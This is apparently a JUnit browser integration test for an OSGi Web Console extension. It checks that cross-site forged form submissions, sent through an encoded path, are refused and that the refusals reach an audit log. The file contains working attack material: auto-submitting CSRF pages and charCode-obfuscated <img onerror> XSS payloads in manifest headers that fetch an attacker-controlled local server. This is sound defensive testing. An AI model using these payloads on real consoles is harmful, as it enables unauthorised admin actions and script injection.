package org.arflex.webconsole;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.jar.Attributes;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * Issue 16 ("Trust"), the console's part, in Debian's headless Chromium against the real
 * runtime, driven through {@link Browser} (W3C WebDriver, no Selenium), with an attacker's web
 * server on another origin (a JDK HttpServer on 127.0.0.1, another port) that records every
 * request it gets:
 * <ol>
 * <li>forms on the attacker's page, submitted while the browser holds the console's login, to
 * {@code /%73ystem/console/...} (Felix's bundle uninstall, a configuration write, our contract
 * save) change nothing; the same forms from the console's own page do;
 * <li>a bundle whose manifest headers carry {@code <img src=x onerror=...>} runs no script on
 * the Web Console's pages (bundles list, bundle details, services, configuration, components,
 * system information) and sends nothing to the attacker, while those pages and ours show their
 * content and report no policy violation by their own scripts;
 * <li>that bundle does not resolve, so none of its code runs;
 * <li>an uninstall through the console's bundles page appears on the Audit page with the user,
 * and so do the refused cross-site attempts with their reason.
 * </ol>
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class WebConsoleBrowserIT {
    private static final Duration WAIT = Duration.ofSeconds(30);
    /** Collects every CSP violation of a document before any of its scripts runs. */
    private static final String VIOLATIONS = "window.__violations = [];"
            + "document.addEventListener('securitypolicyviolation', e => window.__violations.push({"
            + "directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile,"
            + "line: e.lineNumber}), true);";
    private static final String FORGED_PID = "org.arflex.test.forged";
    private static final String CONTRACT = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            + "<component xmlns=\"urn:arflex:contract:1\" name=\"forged\" version=\"1.0.0\">\n"
            + "  <implementation executable=\"forged\" task=\"periodic\" movesHardware=\"false\"/>\n"
            + "  <ports><out name=\"count\" type=\"arflex.Sample\" typeVersion=\"1.0\" method=\"state\"/></ports>\n"
            + "  <timing period=\"10ms\" deadline=\"10ms\" wcet=\"200us\" priority=\"50\"/>\n"
            + "  <resources memory=\"8MiB\" network=\"0\"/>\n"
            + "  <criticality>5</criticality>\n"
            + "  <fault restart=\"permanent\" intensity=\"3\" window=\"10s\" backoff=\"100ms\" safe=\"hold\""
            + " heartbeatTimeout=\"1s\"/>\n"
            + "</component>\n";

    private static RuntimeUnderTest rt;
    private static Browser browser;
    private static HttpServer evil;
    private static String evilBase;
    private static final List<String> evilRequests = new CopyOnWriteArrayList<>();
    private static final Map<String, String> evilPages = new ConcurrentHashMap<>();
    private static Path jars;
    private static Path screenshots;
    private static long victimId;
    private static long markupId;

    @BeforeAll
    static void start() throws IOException {
        Browser.requireInstalled();
        Path work = Path.of(System.getProperty("arflex.it.work", "target/it")).toAbsolutePath().resolve("webconsole-browser");
        RuntimeUnderTest.deleteTree(work);
        screenshots = Path.of(System.getProperty("arflex.screenshots", "target/screenshots")).toAbsolutePath();
        rt = new RuntimeUnderTest(work.resolve("runtime"));
        // the jars this test makes lie where the runtime's code gate trusts them (RuntimeUnderTest):
        // it tests the console's defences behind the gate
        jars = Files.createDirectories(rt.work.resolve("jars"));
        rt.awaitUp(Duration.ofSeconds(90));

        evil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        evil.createContext("/", ex -> {
            String path = ex.getRequestURI().getRawPath();
            evilRequests.add(ex.getRequestMethod() + " " + ex.getRequestURI());
            String page = path.startsWith("/page/") ? evilPages.get(path.substring(6)) : null;
            byte[] b = (page == null ? "" : page).getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
            ex.sendResponseHeaders(page == null ? 404 : 200, b.length == 0 ? -1 : b.length);
            try (OutputStream o = ex.getResponseBody()) {
                o.write(b);
            }
        });
        evil.start();
        evilBase = "http://127.0.0.1:" + evil.getAddress().getPort();

        browser = Browser.start(work.resolve("chromedriver.log"));
        // The browser holds the console's login for every request it makes (as after a Basic
        // login), whichever page makes it.
        browser.cdp("Network.enable", Map.of());
        browser.cdp("Network.setExtraHTTPHeaders", Map.of("headers", Map.of("Authorization", rt.basicAuth())));
        browser.cdp("Page.addScriptToEvaluateOnNewDocument", Map.of("source", VIOLATIONS));
    }

    @AfterAll
    static void stop() throws IOException {
        try {
            if (browser != null) {
                browser.close();
            }
        } finally {
            if (evil != null) {
                evil.stop(0);
            }
            if (rt != null) {
                rt.close();
            }
        }
        RuntimeUnderTest.awaitCondition("child processes to end", Duration.ofSeconds(20),
                () -> ProcessHandle.current().descendants().noneMatch(ProcessHandle::isAlive));
    }

    // ---- helpers ---------------------------------------------------------------------------

    private static String console(String path) {
        return rt.base() + path;
    }

    /** A bundle with no code: only its manifest. */
    private static Path bundle(String name, Map<String, String> headers) throws IOException {
        Manifest mf = new Manifest();
        Attributes a = mf.getMainAttributes();
        a.put(Attributes.Name.MANIFEST_VERSION, "1.0");
        a.putValue("Bundle-ManifestVersion", "2");
        a.putValue("Bundle-Version", "1.0.0");
        headers.forEach(a::putValue);
        Path jar = jars.resolve(name + ".jar");
        try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar), mf)) {
            out.flush();
        }
        return jar;
    }

    /** The console's list of bundles: symbolic name to [id, state]. */
    private static Map<String, Object[]> bundles() {
        HttpResponse<String> r = rt.get("/system/console/bundles.json", true);
        assertEquals(200, r.statusCode());
        Map<String, Object[]> out = new LinkedHashMap<>();
        for (Object o : (List<?>) Json.object(r.body()).get("data")) {
            Map<?, ?> b = (Map<?, ?>) o;
            out.put((String) b.get("symbolicName"), new Object[] {b.get("id"), b.get("state")});
        }
        return out;
    }

    private static long install(Path jar, String symbolicName) throws IOException {
        rt.gogo("install " + jar.toUri());
        Object[] b = browser.await(symbolicName + " installed", WAIT, () -> bundles().get(symbolicName), rt::tail);
        return (Long) b[0];
    }

    private static boolean configExists(String pid) {
        HttpResponse<String> r = rt.get("/system/console/configMgr/" + pid + ".json", true);
        assertEquals(200, r.statusCode(), r.body());
        return !((List<?>) Json.parse(r.body())).isEmpty();
    }

    private static void shot(String name) throws IOException {
        browser.screenshot(screenshots.resolve("browser-" + name + ".png"));
    }

    private static String hidden(Map<String, String> fields) {
        return fields.entrySet().stream().map(e -> "<input type='hidden' name='" + e.getKey() + "' value='" + e.getValue() + "'>")
                .collect(Collectors.joining());
    }

    /** A page that submits one form at its target as soon as it loads. */
    private static String autoSubmit(String action, Map<String, String> fields) {
        return "<!doctype html><html><body><p>cute cats</p><form id='f' method='POST' action='" + action + "'>"
                + hidden(fields) + "</form><script>document.getElementById('f').submit();</script></body></html>";
    }

    /** Opens the attacker's page and waits until its form's answer from the console is shown. */
    private static String submitFromAnotherOrigin(String name, String action, Map<String, String> fields) throws IOException {
        evilPages.put(name, autoSubmit(action, fields));
        browser.open(evilBase + "/page/" + name);
        browser.await("the forged form '" + name + "' answered by the console", WAIT,
                () -> browser.url().startsWith(rt.base()) && "complete".equals(browser.js("return document.readyState;"))
                        ? Boolean.TRUE : null, () -> "the browser is at " + browser.url());
        String page = browser.source();
        shot("forged-" + name);
        return page;
    }

    /** Submits the same form from a page of the console's own origin (navigates). */
    private static void submitFromTheConsole(String action, Map<String, String> fields) {
        browser.open(console("/system/console/bundles"));
        browser.js("const f = document.createElement('form'); f.method = 'POST'; f.action = arguments[0];"
                + "for (const [k, v] of Object.entries(arguments[1])) {"
                + "  const i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = v; f.append(i); }"
                + "document.body.append(f); f.submit();", action, fields);
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> violations() {
        Object v = browser.js("return window.__violations || [];");
        return (List<Map<String, Object>>) v;
    }

    @SuppressWarnings("unchecked")
    private static List<String> pwned() {
        Object v = browser.js("return window.__pwned === undefined ? [] : window.__pwned;");
        return v instanceof List<?> l ? (List<String>) l : List.of(String.valueOf(v));
    }

    /** What the payloads would send: script requests to /hit/, image loads from /img/. */
    private static List<String> hitsAtTheAttacker() {
        return evilRequests.stream().filter(r -> r.contains(" /hit/") || r.contains(" /img/")).toList();
    }

    /** Violations of the page's own scripts: every one not caused by the injected payloads. */
    private static List<Map<String, Object>> ownViolations() {
        return violations().stream().filter(v -> !String.valueOf(v.get("sample")).contains("__pwned")
                && !String.valueOf(v.get("blocked")).startsWith(evilBase)).toList();
    }

    /**
     * Console errors about the policy other than the refusals of the payloads (inline event
     * handlers, the javascript: link, the attacker's image): a refused eval or inline script of
     * the console's own would show here.
     */
    private static List<String> policyErrors() {
        return browser.consoleLog().stream().map(e -> e.get("level") + " " + e.get("message"))
                .filter(m -> m.contains("Content Security Policy") && !m.contains("inline event handler")
                        && !m.contains("JavaScript URL") && !m.contains(evilBase)).toList();
    }

    // ---- 1. cross-site forms through an encoded console path ----------------------------------

    @Test
    @Order(1)
    void formsFromAnotherOriginChangeNothingThroughAnEncodedPathAndTheSameFormsFromTheConsoleDo() throws IOException {
        victimId = install(bundle("victim", Map.of("Bundle-SymbolicName", "org.arflex.test.victim",
                "Bundle-Name", "Victim")), "org.arflex.test.victim");
        String bundleUrl = console("/%73ystem/console/bundles/" + victimId);
        String configUrl = console("/%73ystem/console/configMgr/" + FORGED_PID);
        String contractUrl = console("/%73ystem/console/arflex-contract/api/save?name=forged");
        Map<String, String> uninstall = Map.of("action", "uninstall");
        Map<String, String> config = Map.of("apply", "true", "action", "ajaxConfigManager", "propertylist", "forged",
                "forged", "yes");
        assertFalse(configExists(FORGED_PID));

        String answer = submitFromAnotherOrigin("bundle", bundleUrl, uninstall);
        assertTrue(answer.contains("403"), answer);
        assertTrue(answer.contains("cross-"), "the refusal says why: " + answer);
        answer = submitFromAnotherOrigin("config", configUrl, config);
        assertTrue(answer.contains("403"), answer);
        answer = submitFromAnotherOrigin("contract", contractUrl, Map.of("_csrf", "guess"));
        assertTrue(answer.contains("403"), answer);
        // The plain spelling is refused as well.
        answer = submitFromAnotherOrigin("bundle-plain", console("/system/console/bundles/" + victimId), uninstall);
        assertTrue(answer.contains("403"), answer);

        assertNotNull(bundles().get("org.arflex.test.victim"), "the bundle is still installed");
        assertFalse(configExists(FORGED_PID), "the configuration is not written");
        assertFalse(Files.exists(rt.home.resolve("contracts/forged.xml")), "the contract is not saved");

        // The same forms from the console's own page go through: the test can fail.
        submitFromTheConsole(configUrl, config);
        browser.await("the configuration written from the console's own page", WAIT,
                () -> configExists(FORGED_PID) ? Boolean.TRUE : null, () -> "page: " + browser.url());
        submitFromTheConsole(bundleUrl, uninstall);
        browser.await("the bundle uninstalled from the console's own page", WAIT,
                () -> bundles().get("org.arflex.test.victim") == null ? Boolean.TRUE : null, () -> "page: " + browser.url());
        // Our own API: the same encoded path from our page, with the page's token, saves.
        browser.open(console("/system/console/arflex-contract"));
        String token = browser.await("the contract page's token", WAIT,
                () -> (String) browser.js("const a = document.getElementById('arflex-app'); return a ? a.dataset.csrf : null;"),
                browser::url);
        Object saved = browser.js("return fetch(arguments[0], {method: 'POST', headers: {'X-Arflex-Csrf': arguments[1],"
                + " 'Content-Type': 'application/xml'}, body: arguments[2]}).then(r => r.status + ' ' + r.statusText);",
                contractUrl, token, CONTRACT);
        assertTrue(String.valueOf(saved).startsWith("200"), "saved from the console's page: " + saved);
        assertTrue(Files.isRegularFile(rt.home.resolve("contracts/forged.xml")));
        assertEquals(List.of(), hitsAtTheAttacker());
    }

    // ---- 2. markup in manifest headers -------------------------------------------------------

    /**
     * Markup whose error handler records that it ran and calls the attacker. No quote, slash or
     * space in the handler: Felix writes the headers into its script with {@code "}, {@code '}
     * and {@code /} escaped ({@code \x22}, {@code \x27}, {@code \/}), which would break a
     * handler that has them, and puts them into the page unchanged otherwise.
     */
    private static String payload(String where) {
        return "<img src=x onerror=window.__pwned=(window.__pwned||[]).concat(" + charCodes(where) + ");"
                + "fetch(" + charCodes(evilBase + "/hit/" + where) + ")>";
    }

    private static String charCodes(String s) {
        return "String.fromCharCode(" + s.chars().mapToObj(Integer::toString).collect(Collectors.joining(",")) + ")";
    }

    /**
     * Waits until the page shows what {@code shown} selects and every injected handler on it has
     * either run or been refused, then checks nothing ran and nothing left for the attacker.
     * Returns the page's own violations (its own scripts refused by the policy).
     */
    private static List<Map<String, Object>> checkPage(String name, String path, String shown) throws IOException {
        browser.open(console(path));
        browser.await(name + " showing " + shown, WAIT, () -> browser.findAll(shown).isEmpty() ? null : Boolean.TRUE,
                () -> "page: " + browser.url() + " " + browser.source().length() + " chars");
        return settle(name);
    }

    /** The rest of {@link #checkPage} for what is on the page now. */
    private static List<Map<String, Object>> settle(String name) throws IOException {
        long injected = (Long) browser.js("return document.querySelectorAll('img[onerror]').length;");
        browser.await("the " + injected + " injected handlers on " + name + " to run or be refused", WAIT, () -> {
            long blocked = violations().stream().filter(v -> String.valueOf(v.get("sample")).contains("__pwned")).count();
            return blocked + pwned().size() >= injected ? Boolean.TRUE : null;
        }, () -> "violations " + violations() + ", pwned " + pwned());
        shot("markup-" + name);
        assertEquals(List.of(), pwned(), name + ": injected script ran");
        assertEquals(List.of(), hitsAtTheAttacker(), name + ": the attacker's server was reached");
        return ownViolations();
    }

    @Test
    @Order(2)
    void markupInManifestHeadersRunsNothingOnTheConsolePagesWhichStillWork() throws IOException {
        Map<String, String> h = new LinkedHashMap<>();
        h.put("Bundle-SymbolicName", "org.arflex.test.markup");
        h.put("Bundle-Name", "Markup " + payload("name"));
        h.put("Bundle-Vendor", "ACME " + payload("vendor"));
        h.put("Bundle-Description", "Describes " + payload("description"));
        h.put("Bundle-Copyright", "(c) <img src=" + evilBase + "/img/copyright>");
        h.put("Bundle-ContactAddress", "Somewhere " + payload("contact"));
        h.put("Bundle-Category", "test " + payload("category"));
        h.put("Bundle-DocURL", "javascript:void(window.__pwned=[" + charCodes("docurl") + "])");
        markupId = install(bundle("markup", h), "org.arflex.test.markup");

        Map<String, List<Map<String, Object>>> own = new LinkedHashMap<>();
        own.put("bundles", checkPage("bundles", "/system/console/bundles", "#entry" + markupId));
        // Details opened in the list, then the bundle's own page: the headers go in as HTML.
        browser.click(browser.findAll("#img" + markupId).get(0));
        browser.await("the details in the list", WAIT, () -> browser.findAll("#pluginInlineDetails" + markupId + " tr").size() > 3
                ? Boolean.TRUE : null, browser::url);
        own.put("bundles, details opened", settle("bundles-details-opened"));
        own.put("bundle details", checkPage("bundle-details", "/system/console/bundles/" + markupId,
                "#pluginInlineDetails" + markupId + " tr"));
        long injected = (Long) browser.js("return document.querySelectorAll('img[onerror]').length;");
        assertTrue(injected >= 2, "the payloads are in the page (the test exercises them): " + injected);
        assertTrue(browser.source().contains("ACME"), "the vendor is shown");
        // The documentation link is a javascript: URL: a click runs nothing (followed in this
        // tab, where the test can see it, rather than in the new one it names).
        int before = violations().size();
        String link = browser.findAll("a[href^='javascript:']").get(0);
        browser.js("arguments[0].removeAttribute('target');", Browser.ref(link));
        browser.click(link);
        browser.await("the javascript: link to run or be refused", WAIT,
                () -> violations().size() > before || !pwned().isEmpty() ? Boolean.TRUE : null, () -> "" + violations());
        assertEquals(List.of(), pwned(), "the documentation link ran script");
        own.put("services", checkPage("services", "/system/console/services", "#plugin_table tbody tr"));
        own.put("configuration", checkPage("configuration", "/system/console/configMgr", "#configTable tbody tr, #plugin_table tbody tr"));
        own.put("components", checkPage("components", "/system/console/components", "#plugin_table tbody tr"));
        own.put("system information", checkPage("system information", "/system/console/vmstat", "#shutdownform"));
        // Its Stop and Restart buttons keep their confirmation (the handlers allowed by hash).
        // The test answers "no" and holds any submit, so the framework is not stopped either way.
        browser.js("window.__asked = []; window.confirm = m => { window.__asked.push(m); return false; };"
                + "window.__submitted = 0; document.getElementById('shutdownform').addEventListener('submit',"
                + " e => { window.__submitted++; e.preventDefault(); }, true);");
        for (String button : browser.findAll("#shutdownform input[type='submit']")) {
            browser.click(button);
        }
        assertEquals(2L, browser.js("return window.__asked.length;"), "both buttons ask first");
        assertEquals(0L, browser.js("return window.__submitted;"), "answered no: nothing submitted");
        own.put("system information, buttons", ownViolations());
        for (String page : List.of("arflex-cell", "arflex-deploy", "arflex-contract", "arflex-graph", "arflex-debug",
                "arflex-audit", "arflex-changesets")) {
            own.put(page, checkPage(page, "/system/console/" + page, "#arflex-app h2"));
        }
        List<String> errors = policyErrors();
        own.values().removeIf(List::isEmpty);
        assertEquals(Map.of(), own, "the console's own scripts refused by the policy (console: " + errors + ")");
        assertEquals(List.of(), errors, "policy errors in the browser console");
    }

    @Test
    @Order(3)
    void aBundleWithMarkupInItsHeadersIsNotResolvedSoNothingOfItRuns() throws IOException {
        rt.gogo("start " + markupId);
        browser.await("the console to refuse resolving bundle " + markupId, WAIT, () -> {
            try {
                return Files.readString(rt.log).contains("arflex console: bundle " + markupId + " (") ? Boolean.TRUE : null;
            } catch (IOException e) {
                return null;
            }
        }, rt::tail);
        assertTrue(rt.tail().contains("is not resolved: markup in the manifest header Bundle-"), rt.tail());
        assertEquals("Installed", bundles().get("org.arflex.test.markup")[1]);
    }

    // ---- 3. the audit log ----------------------------------------------------------------------

    @Test
    @Order(4)
    void anUninstallThroughTheConsoleAndTheRefusedAttemptsAreOnTheAuditPage() throws IOException {
        long id = install(bundle("victim2", Map.of("Bundle-SymbolicName", "org.arflex.test.victim2", "Bundle-Name",
                "Victim 2")), "org.arflex.test.victim2");
        // Felix's own bundles page, its uninstall action (the last icon of the row).
        browser.open(console("/system/console/bundles"));
        String remove = browser.await("the uninstall action of bundle " + id, WAIT, () -> {
            List<String> e = browser.findAll("#entry" + id + " td:nth-child(6) li:nth-child(5)");
            return e.isEmpty() ? null : e.get(0);
        }, browser::url);
        browser.click(remove);
        browser.await("bundle " + id + " uninstalled", WAIT,
                () -> bundles().get("org.arflex.test.victim2") == null ? Boolean.TRUE : null, rt::tail);

        browser.open(console("/system/console/arflex-audit"));
        String uninstallRow = "#arflex-audit-table tr[data-path='/system/console/bundles/" + id + "'][data-status='200']";
        String row = browser.await("the uninstall of bundle " + id + " on the Audit page", WAIT, () -> {
            List<String> e = browser.findAll(uninstallRow);
            return e.isEmpty() ? null : browser.text(e.get(0));
        }, () -> browser.findAll("#arflex-audit-table").isEmpty() ? browser.source()
                : browser.text(browser.findAll("#arflex-audit-table").get(0)));
        assertTrue(row.contains("arflex") && row.contains("POST") && row.contains("action=uninstall")
                && row.contains("127.0.0.1"), row);
        assertTrue(row.matches("(?s)^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d.*"), "an ISO time first: " + row);
        shot("audit");

        // The refused attempts of test 1, with the path as the guard read it and the reason.
        List<String> refused = new ArrayList<>();
        for (String e : browser.findAll("#arflex-audit-table tr[data-status='403']")) {
            refused.add(browser.text(e));
        }
        String forgedBundle = "/system/console/bundles/" + victimId;
        assertTrue(refused.stream().anyMatch(r -> r.contains(forgedBundle) && r.contains("action=uninstall")
                && (r.contains("cross-site") || r.contains("cross-origin"))), "refused: " + refused);
        assertTrue(refused.stream().anyMatch(r -> r.contains("/system/console/configMgr/" + FORGED_PID)), "refused: " + refused);
        assertTrue(refused.stream().anyMatch(r -> r.contains("/system/console/arflex-contract/api/save")), "refused: " + refused);
        // The uninstall and the writes made from the console's own page are there too.
        assertEquals(1, browser.findAll("#arflex-audit-table tr[data-path='" + forgedBundle + "'][data-status='200']").size());
        assertFalse(browser.findAll("#arflex-audit-table tr[data-path='/system/console/arflex-contract/api/save']"
                + "[data-status='200']").isEmpty());
        // The bundle kept from resolving is listed with why.
        String gate = browser.text(browser.findAll("#arflex-refused-table tr[data-bundle='" + markupId + "']").get(0));
        assertTrue(gate.contains("markup in the manifest header"), gate);

        // The file: under ARFLEX_HOME, private, one JSON object per line.
        Path file = rt.home.resolve("console-audit.log");
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file)));
        List<String> lines = Files.readAllLines(file);
        for (String l : lines) {
            assertTrue(Json.parse(l) instanceof Map, l);
        }
        assertTrue(lines.stream().anyMatch(l -> l.contains("\"path\":\"/system/console/bundles/" + id + "\"")
                && l.contains("\"user\":\"arflex\"") && l.contains("\"status\":200")), String.join("\n", lines));
        assertFalse(Files.readString(file).contains(rt.password), "the password is never written");
        assertFalse(Files.readString(file).contains(URLEncoder.encode(rt.password, StandardCharsets.UTF_8)));
    }
}
